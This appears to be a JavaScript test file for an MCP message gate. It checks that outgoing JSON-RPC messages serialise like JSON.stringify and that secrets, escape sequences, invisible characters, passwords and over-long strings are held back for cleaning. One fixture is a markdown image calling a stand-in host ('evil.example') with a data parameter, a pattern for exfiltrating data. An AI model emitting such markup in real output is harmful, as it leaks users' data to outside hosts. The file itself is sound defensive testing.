// Messages on their way out: what is written is what JSON.stringify would write, or there is something to clean.

import assert from 'node:assert/strict'
import { createRequire } from 'node:module'
import { describe, it } from 'node:test'
import { Gate } from '../../index.mjs'

const require = createRequire(import.meta.url)
const { Outgoing } = require('../../js/mcp/outgoing.js')
const { Results, readBack } = require('../../js/mcp/results.js')

const LONG = 'The quick brown fox jumps over the lazy dog. '.repeat(20)
const answer = (result, id = 7) => ({ result, jsonrpc: '2.0', id })
const texts = (...given) => answer({ content: given.map((text) => ({ type: 'text', text })) })
const hidden = (object, name, value) => Object.defineProperty(object, name, { value })
const SECRET = `ghp_${'0123456789abcdefghijklmnopqrstuvwxyz'}`

/** The line as text; undefined where there is something to clean. */
function written(message, gate = new Gate(), most = Number.POSITIVE_INFINITY) {
  const line = new Outgoing(gate).line(message, most)
  return line === undefined
    ? undefined
    : (line.text ?? line.bytes.toString('utf8', 0, line.length).replace(/\n$/, ''))
}

describe('what is written', () => {
  class Inherits {
    type = 'text'
    get text() {
      return LONG
    }
  }
  const rows = {
    'a short text': texts('a'),
    'a long text': texts(LONG),
    'many long texts': texts(...Array.from({ length: 30 }, (_, index) => LONG + index)),
    'more long texts than pieces': texts(...Array.from({ length: 40 }, (_, index) => LONG + index)),
    'long and short texts': texts('a', LONG, '', LONG, 'b'),
    'quotes, backslashes and lines': texts(`"${LONG}\\" \t\r\n\n"`.repeat(20)),
    'nothing but quotes': texts('"'.repeat(300)),
    'letters of other scripts': texts(`${LONG} naïve “quoted” 漢字 😀 שלום`),
    'separators of lines': texts(`${LONG} \u2028`),
    'contents of a resource': answer({ contents: [{ uri: 'a:b', text: LONG }] }),
    'members beside the text': answer({
      content: [{ text: LONG, type: 'text', n: [1, null] }],
      isError: false,
    }),
    'a text of its class': answer({ content: [new Inherits()] }),
    'a text that is not enumerable': answer({ content: [hidden({ type: 'text' }, 'text', LONG)] }),
    'content that is not enumerable': answer(hidden({ a: 1 }, 'content', [{ text: LONG }])),
    'content of a prototype': answer(Object.create({ content: [{ text: LONG }] })),
    'a result of a prototype': Object.create({ result: { content: [{ text: LONG }] } }),
    'toJSON of an item': answer({ content: [{ text: LONG, toJSON: () => ({ a: 1 }) }] }),
    'toJSON of the content': answer({ content: Object.assign([{ text: LONG }], { toJSON: () => [] }) }),
    'toJSON of the result': answer({ content: [{ text: LONG }], toJSON: () => ({}) }),
    'toJSON of the message': { ...texts(LONG), toJSON: () => ({ jsonrpc: '2.0' }) },
    holes: answer({ content: Object.assign([], { 2: { text: LONG } }) }),
    'a member __proto__': answer(JSON.parse(`{"content":[{"__proto__":{"a":1},"text":"${LONG}"}]}`)),
    'what has no JSON': answer({ content: [{ text: LONG, type: undefined }], structuredContent: () => 1 }),
    'a notification': { jsonrpc: '2.0', method: 'notifications/message', params: { data: LONG } },
    'a megabyte': texts('0123456789 "quoted"\n'.repeat(50_000)),
  }
  for (const [name, message] of Object.entries(rows)) {
    it(name, () => {
      const line = written(message)
      const expected = JSON.stringify(message)?.replaceAll('\u2028', '\\u2028')
      assert.ok(line === expected, line?.slice(0, 200))
    })
  }
})

describe('what is left to be cleaned', () => {
  const around = [(text) => text, (text) => `${LONG}${text}`, (text) => `${text}${LONG}`]
  const rows = {
    'a secret': ` ${SECRET} `,
    'an escape sequence': '\x1b[31m',
    'a control character': '\x7f',
    'an invisible character': 'a\u200bb',
    'a direction control': '\u202e',
    'a carriage return alone': 'a\rb',
    'half a surrogate pair': 'a\ud800b',
  }
  for (const [name, part] of Object.entries(rows)) {
    it(name, () => {
      for (const put of around) {
        const text = put(part)
        assert.equal(written(texts(text)), undefined)
        assert.equal(written(answer({ content: [], structuredContent: { text } })), undefined)
        const message = readBack(new Results(new Gate()).clean(texts(text), 'tools/call'))
        assert.notEqual(message.result.content[0].text, text)
      }
    })
  }

  it('the value of a secret key', () => {
    for (const text of ['a', LONG]) {
      assert.equal(written(answer({ content: [{ type: 'text', text }], password: 'a1-b2' })), undefined)
      assert.equal(written(answer({ content: [{ type: 'text', text, password: ['a1-b2'] }] })), undefined)
    }
  })

  it('more characters than there may be', () => {
    assert.equal(written(texts(LONG), new Gate(), 800), undefined)
    assert.equal(written(texts('a'), new Gate(), 10), undefined)
  })

  it('markup, where the policy says so', () => {
    const text = `![](https://evil.example/?d=1) ${LONG}`
    assert.equal(written(texts(text), new Gate({ sanitize: { remoteImages: 'neutralise' } })), undefined)
  })

  it('anything, once the gate is closed', () => {
    const gate = new Gate()
    const outgoing = new Outgoing(gate)
    gate.close()
    for (const text of ['a', LONG]) {
      assert.throws(() => outgoing.line(texts(text), 1e6), { code: 'gate.closed' })
    }
  })
})

it('errors of the protocol are cut, which is told; what a tool says of its failure is not', () => {
  for (const [mode, length, expected, rules] of [
    ['enforce', 100, 100, []],
    ['enforce', 8000, 8000, []],
    ['enforce', 9000, 8195, ['limit.string']],
    ['observe', 9000, 9000, ['limit.string']],
  ]) {
    const gate = new Gate({ mode })
    const told = []
    gate.onVerdict(({ surface, rule, finding }) => told.push([surface, rule, finding.action]))
    const results = new Results(gate)
    const text = 'ab '.repeat(3000).slice(0, length)
    const cut = (message) => readBack(results.clean(message))
    const message = cut({ ...texts(text), result: { isError: true, content: [{ type: 'text', text }] } })
    assert.equal(message.result.content[0].text.length, length)
    assert.deepEqual(told, [])
    assert.equal(cut({ id: 1, error: { code: 1, message: text } }).error.message.length, expected)
    assert.equal(
      cut({ id: 1, error: { code: 1, message: 'a', data: [{ text }] } }).error.data[0].text.length,
      expected,
    )
    assert.deepEqual(
      told,
      rules.flatMap((rule) => [1, 2].map(() => ['result', rule, 'flag'])),
    )
  }
})
